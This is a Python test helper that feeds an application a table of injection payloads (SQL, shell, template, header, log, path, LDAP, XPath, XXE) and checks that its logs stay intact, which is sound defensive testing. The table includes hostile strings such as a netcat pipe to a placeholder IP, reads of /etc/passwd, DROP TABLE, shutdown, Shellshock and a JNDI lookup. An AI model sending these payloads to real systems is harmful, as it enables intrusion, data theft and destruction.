"""Text that means something to an interpreter, by the interpreter. All of it is to stay text."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from tests.stack import wait_until

if TYPE_CHECKING:
    from collections.abc import Iterable

    import httpx

    from tests.stack import Stack

PAYLOADS: dict[str, tuple[str, ...]] = {
    "sql": (
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "') UNION SELECT password_hash FROM users --",
        "'; UPDATE users SET role = 'admin'; --",
        "' || (SELECT version()) || '",
        "1; SELECT pg_sleep(9)",
        "admin'/*",
        "\\'; SELECT 1; --",
        "$$; DROP TABLE users; $$",
        "%(id)s :id ?1 $1 {id} %s",
        "%_\\%",
        "ʼ OR 1=1 --",
        "＇ OR 1=1 --",
    ),
    "nosql": (
        '{"$gt": ""}',
        "{'$ne': null}",
        "[$regex]=.*",
        "'; return true; var a='",
        "$where: sleep(9000)",
    ),
    "command": (
        "; cat /etc/passwd",
        "$(touch /tmp/injected)",
        "`id`",
        "| nc 192.0.2.1 4444",
        "&& shutdown -h now",
        "() { :;}; echo injected",
        "--output=/etc/passwd",
    ),
    "template": (
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{0.__class__.__init__.__globals__}",
        "%(password)s %n%s%x",
        "${jndi:ldap://192.0.2.1/a}",
    ),
    "header": (
        "a%0d%0aSet-Cookie: injected=1",
        "a\\r\\nSet-Cookie: injected=1",
        "attachment; filename=x.exe",
        'a", injected="1',
        "嘊嘍Set-Cookie: injected=1",
    ),
    "log": (
        'a", "event.action": "injected',
        'a"}\\n{"event.action": "injected"}',
        '{"event.action": "injected"}',
        "level=ERROR event=injected",
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/proc/self/environ",
        "%2e%2e%2fetc%2fpasswd",
        "file:///etc/passwd",
        "CON",
    ),
    "ldap": ("*)(uid=*))(|(uid=*", "admin)(&)", "\\2a\\28\\29", "*"),
    "xpath": ("' or count(//user)>0 or 'a'='b", "']|//*|//*['", "x' or name()='password"),
    "markup": (
        "<script>alert(1)</script>",
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "&lt;b&gt;",
        "=cmd|' /C calc'!A1",
    ),
}
HONEST = ("O'Brien", "Ann & Bob", "100 % -- sure", "{curly}", "a\\b", "5 > 3", "日本語", "Zoë")
"""What people are called, and what they write."""
BREAKING = (
    "a\x00b",
    "a\rb",
    'a\r\n{"event.action": "injected"}',
    "a\r\nSet-Cookie: injected=1",
    "\x1b[2J\x1b[31m",
    "a\x7fb",
    "a\x85b",
)
"""Control characters, which no text may hold."""
LINE_BREAKS = ("a\nb", 'a\n{"event.action": "injected"}', "a\u2028b", "a\u2029b")
"""What one line may not hold either."""
INJECTED = "injected"
NGINXS = 400


def everything() -> list[str]:
    """Return all payloads that may be taken as the text that they are."""
    return [text for texts in PAYLOADS.values() for text in texts]


def entries_of(stack: Stack, since: dict[str, int]) -> list[dict[str, Any]]:
    """Return what the application wrote since then.

    Raises:
        ValueError: a line is no JSON.
    """
    with stack.log_path("app").open("rb") as file:
        file.seek(since["app"])
        whole, _, _ = file.read().rpartition(b"\n")
    return [json.loads(line) for line in whole.split(b"\n")]


def assert_one_line_each(
    stack: Stack, since: dict[str, int], answers: Iterable[httpx.Response]
) -> None:
    """Hold the log against what was sent: one access line a request, and no event of a client's.

    Some 400s are nginx's, and have their line in its own log.
    """
    sent = {item.headers["x-request-id"] for item in answers if item.status_code != NGINXS}

    def finished() -> list[str]:
        entries = entries_of(stack, since)
        lines = [entry for entry in entries if entry["event.action"] == "request"]
        told = [entry["http.request.id"] for entry in lines]
        return told if sent <= set(told) else []

    told = wait_until(finished, "a line for every request")
    assert len(told) == len(set(told))
    assert INJECTED not in {entry["event.action"] for entry in entries_of(stack, since)}
